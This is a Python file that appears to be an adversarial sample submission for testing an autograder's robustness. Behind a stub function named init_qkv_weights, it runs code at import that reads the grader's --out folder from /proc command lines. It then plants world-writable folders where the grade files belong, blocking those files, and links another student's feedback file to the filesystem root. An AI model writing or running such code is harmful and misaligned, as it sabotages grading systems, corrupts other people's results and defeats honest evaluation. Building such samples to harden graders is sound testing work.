"""Takes over the results folder: reads OUT from the grader's command line and, before or while
results are written there, plants folders where the class files go (a folder named grades.csv
cannot be replaced by a file) and links where results are written.

base: stub
class: 2
run: disruptive
"""

import os as _os


def _out_folders():
    found = []
    for pid in _os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as stream:
                words = [word.decode(errors="replace") for word in stream.read().split(b"\0")]
        except OSError:
            continue
        found += [words[index + 1] for index, word in enumerate(words[:-1]) if word == "--out"]
    return found


def _squat():
    for out in _out_folders():
        for path in (out, f"{out}/results", f"{out}/feedback"):
            try:
                _os.makedirs(path, exist_ok=True)
                _os.chmod(path, 0o777)
            except OSError:
                pass
        for name in ("grades.csv", "report.html", "class.json", "canvas_grades.csv", "results/honest_alice.json"):
            try:
                _os.mkdir(f"{out}/{name}")
            except OSError:
                pass
        try:
            _os.symlink("/", f"{out}/feedback/honest_alice.html")
        except OSError:
            pass


class _AtLoad:
    _squat()


def init_qkv_weights(d_in, d_out):  # the squatter tries again once results are being written
    _squat()
    raise NotImplementedError("projection: init_qkv_weights is not implemented yet")
